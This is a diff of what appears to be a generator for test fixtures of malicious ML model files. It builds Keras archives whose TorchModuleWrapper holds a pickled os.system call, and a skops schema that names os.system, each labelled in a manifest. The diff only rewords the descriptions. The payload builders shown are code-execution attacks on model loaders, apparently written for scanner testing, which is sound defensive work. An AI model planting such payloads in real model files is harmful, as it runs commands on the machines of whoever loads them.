@@ -356,7 +356,7 @@ tm_b64 = base64.b64encode(torch_zip(P(call(g("os", "system"), u(CMD)), 2))).deco
 seq = {"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": [
     {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"}},
     {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"name": "torch_module_wrapper", "module": tm_b64, "trainable": True}}]}}
-write("g_keras_torch_module_wrapper.keras", keras_zip(seq), "G Keras", "TorchModuleWrapper config 'module' is base64 torch.save bytes (CVE-2025-49655 class)")
+write("g_keras_torch_module_wrapper.keras", keras_zip(seq), "G Keras", "TorchModuleWrapper config 'module' is base64 torch.save bytes that from_config torch.loads")
 func = {"module": "keras", "class_name": "Functional", "config": {"name": "f", "layers": [
     {"module": "keras.layers", "class_name": "InputLayer", "name": "in", "config": {"batch_shape": [None, 4], "name": "in"}, "inbound_nodes": []},
     {"module": "keras.src.utils.torch_utils", "class_name": "TorchModuleWrapper", "name": "tm", "config": {"name": "tm", "module": tm_b64},
@@ -574,7 +574,7 @@ write("m_hydra_config/model_config.yaml", "trainer:\n  callbacks:\n    - _target
 # skops: schema.json naming a function node
 sk = {"__class__": "function", "__module__": "builtins", "__loader__": "FunctionNode", "__id__": 1, "protocol": 1, "_skops_version": "0.9.0",
       "content": {"module_path": "os", "function": "system"}}
-write("m_skops_function_node.skops", zbytes([("schema.json", json.dumps(sk).encode())], zipfile.ZIP_DEFLATED), "M loader format", "skops schema FunctionNode os.system (loads when trusted; CVE-2025-54412 class)")
+write("m_skops_function_node.skops", zbytes([("schema.json", json.dumps(sk).encode())], zipfile.ZIP_DEFLATED), "M loader format", "skops schema FunctionNode naming os.system (loads when the user trusts it)")
 
 with open(os.path.join(OUT, "MANIFEST.tsv"), "w") as f:
     f.write("file\tclass\twhat\texpected\n")
